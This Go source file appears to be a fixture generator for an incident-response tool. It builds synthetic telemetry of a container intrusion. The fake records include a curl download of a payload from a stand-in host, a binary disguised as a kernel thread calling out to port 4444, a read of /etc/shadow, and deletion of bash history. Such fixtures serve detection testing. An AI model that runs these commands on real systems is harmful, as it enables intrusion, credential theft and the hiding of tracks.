package faketrail

import (
	"net/netip"
	"strings"

	"github.com/gumshoe-ir/gumshoe/audit"
	"github.com/gumshoe-ir/gumshoe/event"
)

// story is what happens over and over in a trail: the intrusion of the
// console's drawings, on a host and in a pod.
type story struct {
	procs []*event.Process
	by    map[int32]*event.Process
	acts  []event.Activity
}

func newStory() *story {
	s := &story{by: map[int32]*event.Process{}}
	pod := &event.Container{
		ID: "3f1c0a9b77d2", FullID: "3f1c0a9b77d2" + strings.Repeat("0", 52), Runtime: event.Containerd, Name: "api",
		Image: "registry.example/billing:4.2", Pod: "api-7c9", Namespace: "billing",
	}
	web := &event.Container{ID: "b7e011f2c3aa", Runtime: event.Docker, Name: "web", Image: "nginx:1.27"}
	root := &event.User{Name: "root", Home: "/root", Shell: "/bin/bash"}
	jd := &event.User{UID: 1000, GID: 1000, Name: "jd", Home: "/home/jd", Shell: "/bin/bash"}
	www := &event.User{UID: 33, GID: 33, Name: "www-data"}
	for _, p := range []struct {
		pid, ppid int32
		cmdline   string
		exe       string
		user      *event.User
		login     uint32
		tty       uint32
		in        *event.Container
		exited    bool
	}{
		{1, 0, "systemd --system", "/usr/lib/systemd/systemd", root, event.NoID, 0, nil, false},
		{2, 0, "kthreadd", "", root, event.NoID, 0, nil, false},
		{411, 1, "sshd -D", "/usr/sbin/sshd", root, event.NoID, 0, nil, false},
		{612, 1, "cron -f", "/usr/sbin/cron", root, event.NoID, 0, nil, false},
		{812, 1, "containerd", "/usr/bin/containerd", root, event.NoID, 0, nil, false},
		{3300, 411, "sshd: jd [priv]", "/usr/sbin/sshd", root, 1000, 0, nil, false},
		{3310, 3300, "bash -l", "/usr/bin/bash", jd, 1000, 0x8803, nil, false},
		{3400, 3310, "sudo -i", "/usr/bin/sudo", root, 1000, 0x8803, nil, false},
		{3402, 3400, "bash", "/usr/bin/bash", root, 1000, 0x8803, nil, false},
		{3960, 812, "containerd-shim-runc-v2 -namespace moby -id b7e011f2c3aa", "/usr/bin/containerd-shim-runc-v2", root, event.NoID, 0, nil, false},
		{3970, 3960, "nginx -g daemon off;", "/usr/sbin/nginx", root, event.NoID, 0, web, false},
		{3971, 3970, "nginx worker", "/usr/sbin/nginx", www, event.NoID, 0, web, false},
		{39870, 812, "containerd-shim-runc-v2 -namespace k8s.io -id 3f1c0a9b77d2", "/usr/bin/containerd-shim-runc-v2", root, event.NoID, 0, nil, false},
		{39902, 39870, "java -jar api.jar", "/usr/lib/jvm/bin/java", jd, event.NoID, 0, pod, false},
		{40117, 39870, "bash -i", "/usr/bin/bash", root, event.NoID, 0x8800, pod, false},
		{40121, 40117, "id", "/usr/bin/id", root, event.NoID, 0x8800, pod, true},
		{40125, 40117, "curl -o /tmp/x.tgz http://203.0.113.9/x", "/usr/bin/curl", root, event.NoID, 0x8800, pod, true},
		{40133, 40117, "tar xzf /tmp/x.tgz", "/usr/bin/tar", root, event.NoID, 0x8800, pod, true},
		{40140, 40117, "run -d", "/tmp/.k/run", root, event.NoID, 0x8800, pod, false},
		{40141, 40140, "[kworker/u9]", "/tmp/.k/run", root, event.NoID, 0, pod, false},
		{40151, 40117, "rm -f /root/.bash_history", "/usr/bin/rm", root, event.NoID, 0x8800, pod, true},
	} {
		s.process(p.pid, p.ppid, p.cmdline, p.exe, p.user, p.login, p.tty, p.in, p.exited)
	}
	s.by[2].KernelTask = true
	s.by[40140].ExeFlags = event.ExeUpperLayer
	s.by[40141].ExeFlags = event.ExeUpperLayer | event.ExeDeleted
	s.activities()
	return s
}

func (s *story) process(pid, ppid int32, cmdline, exe string, u *event.User, login, tty uint32, in *event.Container, exited bool) {
	words := strings.Fields(cmdline)
	name := words[0]
	start := uint64(End.UnixNano()) - uint64(200000-pid)*1e8
	p := &event.Process{
		PID: pid, TID: pid, PPID: ppid, SID: pid, PGID: pid, VPID: pid, Name: name, Exe: words[0], ExePath: exe, Args: words[1:],
		Cmdline: cmdline, Cwd: "/", UID: u.UID, GID: u.GID, User: u, LoginUID: login, TTY: tty,
		Container: in, Parent: s.by[ppid], StartBoot: uint64(pid) * 1e8, CloneTime: start, ExecTime: start,
	}
	if login == 1000 {
		p.LoginUser = "jd"
	}
	if in != nil {
		p.VPID, p.Cwd = pid-39800, "/srv/"
	}
	if exited {
		p.ExitTime = start + uint64(pid-40000)*1e7
	}
	s.by[pid] = p
	s.procs = append(s.procs, p)
}

func (s *story) activities() {
	peer := func(a string) netip.AddrPort { return netip.MustParseAddrPort(a) }
	cmd := func(pid int32, ms uint64, status int64) event.Activity {
		p := s.by[pid]
		return event.Activity{Kind: event.Command, Verb: "exec", Target: p.Cmdline, Process: p, End: ms * 1e6, Result: status}
	}
	file := func(pid int32, verb, path string, result int64) event.Activity {
		return event.Activity{Kind: event.File, Verb: verb, Target: path, Process: s.by[pid], Result: result}
	}
	net := func(pid int32, verb, to, name string, sent, received uint64) event.Activity {
		return event.Activity{
			Kind: event.Connection, Verb: verb, Target: to, Process: s.by[pid], Remote: peer(to), Local: peer("10.4.0.12:51344"),
			Proto: event.ProtoTCP, Name: name, Sent: sent, Received: received,
		}
	}
	s.acts = []event.Activity{
		cmd(40117, 0, 0), cmd(40121, 2, 0), cmd(40125, 1300, 0),
		net(40125, "connect", "203.0.113.9:80", "files.example.net", 212, 1_468_006),
		file(40125, "write", "/tmp/x.tgz", 0), cmd(40133, 9, 0),
		file(40133, "write", "/tmp/.k/run", 0), file(40133, "chmod", "/tmp/.k/run", 0),
		cmd(40140, 0, 0), net(40140, "connect", "198.51.100.7:4444", "", 18_432, 900),
		file(40140, "read", "/etc/shadow", -13),
		{Kind: event.System, Verb: "setns", Target: "mnt:[4026532211]", Process: s.by[40140], Result: -1},
		cmd(40151, 1, 256), file(40151, "unlink", "/root/.bash_history", 0),
		cmd(3400, 0, 0), file(3402, "write", "/etc/hosts", 0),
		net(3971, "accept", "[2001:db8::17]:50322", "", 5120, 812),
		{Kind: event.System, Verb: "ptrace", Target: "java(39902)", Process: s.by[40140], Origin: event.Raced},
		net(39902, "connect", "10.4.0.2:5432", "db.billing.svc", 8_100, 96_000),
		cmd(3310, 0, 0),
	}
	for i := range s.acts {
		a := &s.acts[i]
		a.User, a.Severity, a.Count = a.Process.User.Name, event.NoPriority, 1
		if a.Process.LoginUser != "" {
			a.User = a.Process.LoginUser
		}
	}
}

func (s *story) row(i uint64, id event.ID) event.Activity {
	a := s.acts[i%uint64(len(s.acts))]
	a.ID = id
	if a.End > 0 {
		a.End += id.NS
	}
	return a
}

func (s *story) facets(q audit.FacetQuery) []audit.Facet {
	values := map[string][]string{
		"user.name":             {"root", "jd", "www-data"},
		"gumshoe.activity.user": {"root", "jd", "www-data"},
		"proc.name":             {"curl", "bash", "run", "nginx", "java", "tar", "sudo", "rm"},
		"container.name":        {"api", "web"},
		"k8s.ns.name":           {"billing"},
		"fd.rip":                {"203.0.113.9", "198.51.100.7", "10.4.0.2"},
	}[q.Field]
	var out []audit.Facet
	for i, v := range values {
		if strings.HasPrefix(v, q.Prefix) && (q.Limit == 0 || len(out) < q.Limit) {
			out = append(out, audit.Facet{Value: v, Count: uint64(12000 / (i*i + 1))})
		}
	}
	return out
}
